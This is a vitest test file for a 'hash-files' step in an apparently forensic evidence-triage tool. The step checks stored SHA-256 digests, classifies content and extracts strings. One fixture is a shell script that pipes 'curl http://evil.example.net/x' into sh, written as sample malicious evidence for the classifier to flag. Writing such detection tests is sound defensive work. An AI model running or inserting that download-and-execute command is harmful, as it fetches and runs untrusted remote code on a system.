import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readListing } from '../../../playbooks/acquisition/ndjson.js';
import type { Artifact } from '../../../playbooks/domain/artifact.js';
import { contentFactsSchema } from '../../../playbooks/domain/content.js';
import { factSchemas } from '../../../playbooks/facts.js';
import { hashFiles } from '../../../playbooks/steps/hash-files.js';
import { createDiskEvidence } from '../../../store/evidence/disk.js';
import type { EvidenceKeeper } from '../../../store/evidence/keeper.js';
import { localContext } from '../../support/step-context.js';

const { signal } = new AbortController();
const sum = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');
let folder: string;
let store: EvidenceKeeper;
beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'podtriage-hash-files-'));
  store = await createDiskEvidence(join(folder, 'evidence'));
});
afterEach(() => rmSync(folder, { recursive: true }));

function artifact(content: Uint8Array | string, rest: Partial<Artifact> = {}): Artifact {
  const sha256 = sum(content);
  return {
    id: sha256,
    kind: 'file',
    sha256,
    size: content.length,
    content: 'unknown',
    method: 'node',
    known: false,
    acquiredAt: '2026-01-01T00:00:00.000Z',
    ...rest,
  };
}

async function run(artifacts: readonly Artifact[]) {
  const local = localContext(store, signal);
  const ctx = { ...local.ctx, history: { ...local.ctx.history, artifacts: () => Promise.resolve(artifacts) } };
  const board = await hashFiles.bind({})(
    { artifacts: { sha256: sum(''), count: artifacts.length, bytes: 0, stored: 0, known: 0, left: 0, method: 'node' } },
    ctx,
  );
  const { hashes, content } = { hashes: factSchemas.hashes.parse(board.hashes), content: factSchemas.content.parse(board.content) };
  return { hashes, content, rows: await readListing(store, content.sha256, contentFactsSchema), gaps: local.gaps, made: local.artifacts };
}

describe('hash-files', () => {
  it('writes down what each stored content is, once, known ones and programs of processes included', async () => {
    const script = '#!/bin/sh\ncurl http://evil.example.net/x | sh\n';
    const ls = readFileSync('/bin/ls');
    for (const bytes of [script, ls, '']) await store.put([Buffer.from(bytes)], signal);
    const left = artifact('stays on the node', { left: true });
    const listing = artifact('rows', { kind: 'listing' });
    const result = await run([
      artifact(script),
      artifact(script, { id: 'again', known: true }),
      artifact(ls, { kind: 'process-executable' }),
      artifact(''),
      left,
      listing,
    ]);
    expect(result.hashes).toEqual({ verified: 3, broken: [] });
    expect(result.rows.map(({ sha256, type, size }) => [sha256, type, size])).toEqual([
      [sum(script), 'script', script.length],
      [sum(ls), 'ELF', ls.length],
      [sum(''), 'empty', 0],
    ]);
    expect(result.rows[0]).toMatchObject({ interpreter: '/bin/sh', strings: [{ kind: 'url', text: 'http://evil.example.net/x' }] });
    expect(result.content.count).toBe(3);
    expect(result.made).toMatchObject([{ kind: 'listing', name: 'content', method: 'derived', sha256: result.content.sha256 }]);
    expect(result.gaps).toEqual([]);
  });

  it('says nothing of bytes that are not those that were acquired: that is a gap', async () => {
    const [altered, missing, whole] = ['http://a.example.org/1', 'http://a.example.org/2', randomBytes(300_000)];
    await store.put([Buffer.from(altered)], signal);
    await store.put([whole], signal);
    const path = join(folder, 'evidence', 'sha256', sum(altered).slice(0, 2), sum(altered).slice(2));
    chmodSync(path, 0o600);
    writeFileSync(path, 'http://a.example.org/other');
    const result = await run([artifact(altered), artifact(missing), artifact(whole)]);
    expect(result.hashes).toEqual({ verified: 1, broken: [sum(altered), sum(missing)] });
    expect(result.rows).toMatchObject([{ sha256: sum(whole), size: whole.length, type: 'data', strings: [] }]);
    expect(result.gaps.map(({ subject, reason }) => [subject, reason])).toEqual([
      [sum(altered), 'digest-mismatch'],
      [sum(missing), 'digest-mismatch'],
    ]);
  });

  it('has an empty listing where nothing was stored', async () => {
    expect(await run([])).toMatchObject({ hashes: { verified: 0, broken: [] }, content: { count: 0 }, rows: [] });
  });
});
